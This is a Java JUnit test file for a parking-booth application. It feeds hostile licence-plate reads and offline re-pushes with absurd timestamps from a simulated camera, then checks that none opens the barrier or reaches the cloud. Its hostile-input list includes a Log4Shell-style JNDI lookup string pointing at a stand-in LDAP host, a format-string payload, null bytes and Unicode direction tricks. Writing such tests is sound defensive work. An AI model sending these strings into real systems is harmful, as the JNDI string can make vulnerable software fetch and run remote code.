package com.boothdesk.app.hardware;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.concurrent.TimeUnit;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.boothdesk.app.domain.gate.BarrierAction;
import com.boothdesk.app.domain.gate.GateEvent;
import com.boothdesk.app.domain.lane.LanePhase;
import com.boothdesk.app.testing.RunningBooth;
import com.boothdesk.devices.sim.CameraPushResult;
import com.boothdesk.devices.sim.SimulatedZhenshiCamera;

/**
 * Hostile camera reads and offline re-pushes through the whole booth (HTTP push, lanes, H2, the cloud simulator):
 * none reaches the barrier or the cloud, none is decided by itself; the intake journal keeps nothing once decided.
 */
class HostileReadsThroughTheBoothTest {

    @TempDir
    Path data;
    RunningBooth booth;
    SimulatedZhenshiCamera entry;

    @BeforeEach
    void start() {
        booth = RunningBooth.start(data);
        entry = booth.camera("SIM-CAM-A1").withoutImages();
    }

    @AfterEach
    void stop() {
        booth.close();
    }

    @Test
    void hostilePlatesNeverOpenTheBarrierNorReachTheCloud() {
        List<String> corpus = List.of("%S%S%N", "京A1234\n5", "京A\u000012345", "\u202E54321A京", "äº¬A12345",
                "😀😀😀", "京A123456789", "京A1234567890ABCD", "京A12345".repeat(2000), "${jndi:ldap://x/a}");
        for (String plate : corpus) {
            CameraPushResult r = entry.push(plate);
            assertThat(r.ok()).isTrue();
            assertThat(r.openGate()).isFalse();
            await().atMost(RunningBooth.WAIT).until(() ->
                    "plate.invalid".equals(booth.app.lane("A1").state().get().messageKey())
                            && booth.app.lane("A1").state().get().at().equals(booth.clock.instant()));
            booth.clock.advance(Duration.ofSeconds(1));
        }
        assertThat(booth.app.orders().inLot()).isEmpty();
        assertThat(booth.app.gateEvents().recent(50)).isEmpty();
        assertThat(booth.cloud().received("in_park")).isEmpty();
        String shown = (String) booth.app.lane("A1").state().get().messageArgs().get(0);
        assertThat(shown).hasSizeLessThan(60).doesNotContain("\n").doesNotContain("\u0000");
    }

    @Test
    void offlineRePushesWithAbsurdTimesAreShownNotDecided() {
        // (a Timeval of 0 is "camera time unknown", see anOfflineRePushWithTimevalZeroIsShownNotDecided; 1970 is second 1)
        Instant[] absurd = {Instant.ofEpochSecond(1), Instant.parse("2001-01-01T00:00:00Z"),
                booth.clock.instant().plus(Duration.ofDays(2)), Instant.parse("+33658-01-01T00:00:00Z")};
        long id = 9000;
        for (Instant at : absurd) {
            CameraPushResult r = entry.pushOffline("京A5" + (id % 10) + "123", id++, at);
            assertThat(r.ok()).as("answered %s", at).isTrue();
        }
        await().atMost(RunningBooth.WAIT).until(() ->
                "entry.offline.time".equals(booth.app.lane("A1").state().get().messageKey()));
        assertThat(booth.app.orders().inLot()).isEmpty();
        assertThat(booth.cloud().received("in_park")).isEmpty();

        entry.pushOffline("京A59999", id, booth.clock.instant().minus(Duration.ofHours(1)));
        await().atMost(RunningBooth.WAIT).until(() -> booth.app.orders().findInLot("京A59999").isPresent());
        assertThat(booth.app.gateEvents().recent(10)).as("an offline entry moves no barrier").isEmpty();
    }

    @Test
    void anOfflineRePushWithTimevalZeroIsShownNotDecided() {
        CameraPushResult r = entry.pushOfflineWithoutTime("京A56789", 9100);
        assertThat(r.ok()).isTrue();
        assertThat(r.continueOffline()).isTrue();
        await().atMost(RunningBooth.WAIT).until(() ->
                "entry.offline.notime".equals(booth.app.lane("A1").state().get().messageKey()));
        assertThat(booth.app.orders().findInLot("京A56789")).isEmpty();
        assertThat(booth.cloud().received("in_park")).isEmpty();
        assertThat(booth.app.gateEvents().recent(10)).isEmpty();
    }

    @Test
    void keepOpenAndReleaseAreReportedAsLiftAndDropAndAFailedManualOpenIsNotReported() throws Exception {
        booth.app.lane("A1").barrier(BarrierAction.KEEP_OPEN, "早高峰").get(20, TimeUnit.SECONDS);
        booth.app.lane("A1").barrier(BarrierAction.RELEASE_KEEP_OPEN, "高峰结束").get(20, TimeUnit.SECONDS);
        await().atMost(RunningBooth.WAIT).until(() -> booth.cloud().received("upload_liftrod").size() == 2);
        assertThat(booth.cloud().received("upload_liftrod")).extracting(u -> u.data().path("operate").asInt())
                .containsExactly(0, 1);
        List<GateEvent> events = booth.app.gateEvents().recent(2);
        assertThat(events).extracting(GateEvent::action)
                .containsExactly(GateEvent.Action.RELEASE_KEEP_OPEN, GateEvent.Action.KEEP_OPEN);
        assertThat(events).allSatisfy(e -> assertThat(e.outcome().moved()).isTrue());
        assertThat(booth.app.lane("A1").state().get().phase()).isEqualTo(LanePhase.IDLE);
    }
}
